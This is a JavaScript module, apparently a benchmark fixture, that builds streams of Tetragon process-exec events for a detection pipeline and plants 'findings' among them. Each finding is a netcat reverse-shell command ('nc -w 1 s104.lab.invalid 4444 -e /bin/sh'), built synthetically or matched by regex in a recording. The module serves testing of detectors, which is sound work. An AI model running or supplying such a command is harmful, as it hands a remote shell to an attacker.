// The events that benchmarks send, as frames ready for a socket: recorded ones or synthetic ones of 1.2 KB, and
// findings among them. Each time round, exec ids are rewritten, so that nothing is seen twice.
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { gunzipSync } from 'node:zlib';
import protobuf from 'protobufjs';

const root = join(dirname(fileURLToPath(import.meta.url)), '../../..');
const CYCLE = 8_000;
/** Names of three characters. */
const PEERS = 36 ** 3;
/** Frame header of HTTP/2, prefix of gRPC. */
const HEADS = 9 + 5;

/** The messages of a recording of Tetragon. */
export function recordedMessages(name) {
  const bytes = gunzipSync(readFileSync(join(root, `test/fixtures/recordings/tetragon/${name}.bin.gz`)));
  const messages = [];
  for (let at = 0; at < bytes.length; ) {
    const length = bytes.readUInt32BE(at);
    messages.push(bytes.subarray(at + 4, at + 4 + length));
    at += 4 + length;
  }
  return messages;
}

let response;
function envelope() {
  if (response !== undefined) return response;
  const types = new protobuf.Root();
  types.resolvePath = (_from, file) => (file.startsWith('google/') ? null : join(root, 'proto/tetragon', file));
  types.loadSync('events.proto', { keepCase: true });
  response = types.lookupType('tetragon.GetEventsResponse');
  return response;
}

const execId = (pid) => Buffer.from(`bench-node:${1_000_000_000_000 + pid}:${pid}`).toString('base64');
const time = { seconds: 1_795_386_484, nanos: 300_413_560 };

/** One exec as Tetragon 1.7 on Kubernetes sends it: its envelope's own fields first, as Go writes them. */
export function syntheticMessage(pid, { binary = '/usr/local/bin/worker', args = `--queue jobs --shard ${pid} --timeout 30s`, ancestors = 1 } = {}) {
  // One supervisor in each of the containers starts them all.
  const above = 900_000 + (pid % 61) * 20;
  const id = createHash('sha256').update(String(pid % 61)).digest('hex');
  const program = (number, file, words, parent) => ({
    exec_id: execId(number), pid: { value: number }, uid: { value: 1000 }, cwd: '/srv/app', binary: file, arguments: words,
    flags: 'execve rootcwd clone', start_time: time, auid: { value: 4294967295 }, parent_exec_id: execId(parent), tid: { value: number }, docker: id.slice(0, 31), in_init_tree: { value: false },
    pod: {
      namespace: 'shop', name: 'worker-7c9d8b6f5-x2x9q', workload: 'worker', workload_kind: 'Deployment', uid: '0f2d5a52-6f3e-4a6e-9d7e-3f0c1b2a4d5e', pod_labels: { app: 'worker' },
      container: { id: `containerd://${id}`, name: 'worker', image: { id: `registry.example.net/shop/worker@sha256:${'ab'.repeat(32)}`, name: 'registry.example.net/shop/worker:2.14.0' }, start_time: time, pid: { value: 7 } },
    },
  });
  const { pod, ...parent } = program(above, '/usr/local/bin/supervisor', '--config /etc/supervisor.conf', above + 1);
  const further = (depth) => {
    const { pod: _none, ...one } = program(above + depth + 1, `/usr/local/bin/starter-${depth}`, '--config /etc/starter.conf', above + depth + 2);
    return one;
  };
  const exec = { process: program(pid, binary, args, above), parent: { ...parent, pod }, ancestors: Array.from({ length: Math.max(0, ancestors - 1) }, (_, depth) => further(depth)) };
  const type = envelope();
  const encode = (fields) => type.encode(type.fromObject(fields)).finish();
  return Buffer.concat([encode({ node_name: 'bench-node', time, cluster_name: 'bench' }), encode({ process_exec: exec })]);
}

/** Reverse shell by netcat: a real one out of the recorded scenario, or a synthetic one. */
function findingMessage(stream, options) {
  if (stream === 'synthetic') return syntheticMessage(40_001, { ...options, binary: '/usr/bin/nc', args: '-w 1 s104.lab.invalid 4444 -e /bin/sh' });
  const found = recordedMessages('scenario-k8s').find((message) => /^(?:(?!\/bin\/)[^])*\/bin\/nc[^]{1,4}-w 1 s104\.lab\.invalid 4444 -e \/bin\/sh/.test(message.latin1Slice()));
  if (found === undefined) throw new Error('the recorded scenario has no nc -w 1 s104… -e /bin/sh');
  return found;
}

/** Where exec ids have eight base64 characters of pure digits: they can be rewritten in place. */
function idSpots(text) {
  const spots = [];
  for (const match of text.matchAll(/[A-Za-z0-9+/]{24,}={0,2}/g)) {
    // A tag or length byte in front may look like base64.
    for (let lead = 0; lead < 3; lead += 1) {
      const plain = Buffer.from(match[0].slice(lead), 'base64').toString('latin1');
      const digits = /^[\w.-]+:(\d{9,}):\d+$/d.exec(plain);
      if (digits === null) continue;
      const first = Math.ceil(digits.indices[1][0] / 3);
      spots.push(match.index + lead + first * 4);
      break;
    }
  }
  return spots;
}

/** Where a container's id stands, long or cut, whose first twelve digits can be rewritten. */
function containerSpots(text) {
  const [, id] = /containerd:\/\/([0-9a-f]{64})/.exec(text) ?? [];
  if (id === undefined) return [];
  const spots = [];
  for (let at = text.indexOf(id.slice(0, 31)); at >= 0; at = text.indexOf(id.slice(0, 31), at + 1)) spots.push(at);
  return spots;
}

/** Where the peer's name of the finding stands, of which three characters can be rewritten. */
function peerSpots(text) {
  const spots = [];
  for (let at = text.indexOf('s104.lab.invalid'); at >= 0; at = text.indexOf('s104.lab.invalid', at + 1)) spots.push(at + 1);
  return spots;
}

/**
 * A round of frames: `bytes`, where each frame ends, `address(id)` for the stream they go to, and
 * `stamp(frame, round, sequence)`, which makes the ids in a frame new; findings carry their sequence as the first twelve hexadecimal digits of the container's id.
 * Each finding is another command, to another peer; `alike`: all are the same command.
 */
export function openCycle({ stream, share = 0, ancestors = 1, alike = false }) {
  const plain = stream === 'real' ? recordedMessages('storm') : Array.from({ length: CYCLE }, (_, at) => syntheticMessage(1000 + at, { ancestors }));
  const finding = share > 0 ? findingMessage(stream, { ancestors }) : undefined;
  const every = share > 0 ? Math.round(1 / share) : Number.POSITIVE_INFINITY;
  const frames = [];
  for (let at = 0; frames.length < Math.max(CYCLE, plain.length); at += 1) {
    const isFinding = frames.length % every === every - 1;
    const message = isFinding ? finding : plain[at % plain.length];
    if (message.length + 5 <= 16_384) frames.push({ message, isFinding });
  }
  const bytes = Buffer.alloc(frames.reduce((sum, { message }) => sum + message.length + HEADS, 0));
  const ends = [];
  let at = 0;
  for (const frame of frames) {
    bytes.writeUIntBE(frame.message.length + 5, at, 3);
    bytes.writeUInt32BE(frame.message.length, at + 10);
    frame.message.copy(bytes, at + HEADS);
    const text = frame.message.latin1Slice();
    frame.ids = idSpots(text).map((spot) => spot + at + HEADS);
    frame.containers = frame.isFinding ? containerSpots(text).map((spot) => spot + at + HEADS) : [];
    frame.peers = frame.isFinding && !alike ? peerSpots(text).map((spot) => spot + at + HEADS) : [];
    at += frame.message.length + HEADS;
    ends.push(at);
  }
  const code = new Map();
  const digits = (number) => {
    const key = number % 1_000_000;
    if (!code.has(key)) code.set(key, Buffer.from(String(key).padStart(6, '0')).toString('base64'));
    return code.get(key);
  };
  return {
    bytes,
    ends,
    address(id) {
      for (let frame = 0; frame < ends.length; frame += 1) bytes.writeUInt32BE(id, (frame === 0 ? 0 : ends[frame - 1]) + 5);
    },
    isFinding: (frame) => frames[frame].isFinding,
    stamp(frame, round, sequence) {
      const { ids, containers, peers, isFinding } = frames[frame];
      const mark = digits(isFinding ? sequence : round);
      for (const spot of ids) bytes.latin1Write(mark, spot);
      for (const spot of containers) bytes.latin1Write(sequence.toString(16).padStart(12, '0'), spot);
      for (const spot of peers) bytes.latin1Write((sequence % PEERS).toString(36).padStart(3, '0'), spot);
    },
  };
}
